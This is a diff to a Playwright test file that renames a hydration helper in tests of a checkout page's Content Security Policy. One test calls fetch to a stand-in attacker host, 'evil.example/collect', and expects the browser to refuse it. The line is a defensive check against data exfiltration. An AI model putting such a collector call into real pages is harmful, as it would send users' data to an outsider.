@@ -1,5 +1,5 @@
 import type { Page } from '@playwright/test'
-import { takenOver } from '../fixtures/hydration.ts'
+import { untilHydrated } from '../fixtures/hydration.ts'
 import { expect, test } from '../fixtures/test.ts'
 
 /** A page of the checkout's document that does not redirect: nothing is in the basket. */
@@ -46,7 +46,7 @@ test('the checkout loads nothing but its own two releases and the provider', asy
   const [menuEntry = ''] = /\/r\/menu\/[^"]*?\/web\//.exec(home ?? '') ?? []
   for (const { what, rule, ...element } of refused) {
     await page.goto(CHECKOUT)
-    await takenOver(page)
+    await untilHydrated(page)
     expect(await add(page, element), what).toBe(rule)
   }
   await page.goto(CHECKOUT)
@@ -59,7 +59,7 @@ test('the checkout loads nothing but its own two releases and the provider', asy
 test('the checkout sends nothing to a stranger', async ({ page, expectConsole }) => {
   expectConsole(/Content Security Policy|status of 404 .*nope/)
   await page.goto(CHECKOUT)
-  await takenOver(page)
+  await untilHydrated(page)
   const sent = page.evaluate(() => fetch('https://evil.example/collect').then(String, () => 'refused'))
   expect(await sent).toBe('refused')
   const rule = page.evaluate(
@@ -84,7 +84,7 @@ test('no script of another area and no tag manager comes to the checkout', async
     if (request.resourceType() === 'script') scripts.push(new URL(request.url()).pathname)
   })
   await page.goto(CHECKOUT)
-  await takenOver(page)
+  await untilHydrated(page)
   await page.waitForLoadState('networkidle')
   expect(scripts.filter((path) => !/^\/r\/(host|checkout)\//.test(path))).toEqual([])
   expect(scripts.length).toBeGreaterThan(1)
